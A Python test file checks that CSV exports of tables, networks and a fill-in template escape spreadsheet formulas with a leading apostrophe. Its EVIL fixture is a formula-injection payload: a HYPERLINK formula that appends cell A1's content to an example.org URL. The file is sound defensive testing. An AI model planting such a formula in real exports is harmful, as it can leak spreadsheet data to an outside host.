"""CSV that people open with a spreadsheet program: no name of a source becomes a formula."""

import csv
import io

import pytest
from small import Small

from api.tables import as_csv
from graph.inventory import MEASURE, Inventory, Item
from graph.network import edges_csv, node_link, nodes_csv
from graph.scores import template
from graph.spreadsheet import as_text

EVIL = '=HYPERLINK("http://example.org/?"&A1;"mehr")'


@pytest.mark.parametrize("text", [EVIL, "+49 Ideen", "-Bus und Bahn", "@SUM(A1)", "\tx", "\rx", "-2+3", "=1"])
def test_what_looks_like_a_formula_is_text(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Bus", "-5", "+3,5", "-1.000,5", "-1e-05", "-12 %", "– nichts", "'x", "1=1"]
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text


def test_tables_for_people_hold_no_formula() -> None:
    rows = [{"Name": EVIL, "=Zahl": -5, "Anteil": -0.5, "ja": True, "nichts": None}]
    assert list(csv.reader(io.StringIO(as_csv(rows)))) == [
        ["Name", "'=Zahl", "Anteil", "ja", "nichts"],
        [f"'{EVIL}", "-5", "-0.5", "ja", ""],
    ]


def test_networks_as_tables_hold_no_formula_and_other_forms_are_as_they_were() -> None:
    small = Small()
    small.county("ahorn", label=EVIL)
    small.measure("bus", "ahorn")
    network = small.joins(("bus", "ofAuthority", "ahorn"))
    network.edges["bus", "ahorn", next(iter(network["bus"]["ahorn"]))]["document"] = "@Vorlage"
    nodes = list(csv.DictReader(io.StringIO(nodes_csv(network).decode())))
    assert [node["Label"] for node in nodes] == [f"'{EVIL}", "Bus"]
    [edge] = csv.DictReader(io.StringIO(edges_csv(network).decode()))
    assert (edge["document"], edge["Source"]) == ("'@Vorlage", "bus")
    assert b"'=HYPERLINK" not in node_link(network)


def test_the_table_to_fill_in_holds_no_formula() -> None:
    known = Inventory(items={"x": Item("https://example.org/x", EVIL, MEASURE, "00001")})
    [_, _, row] = csv.reader(io.StringIO(template(known, "00001")), delimiter=";")
    assert row[:2] == ["https://example.org/x", f"'{EVIL}"]
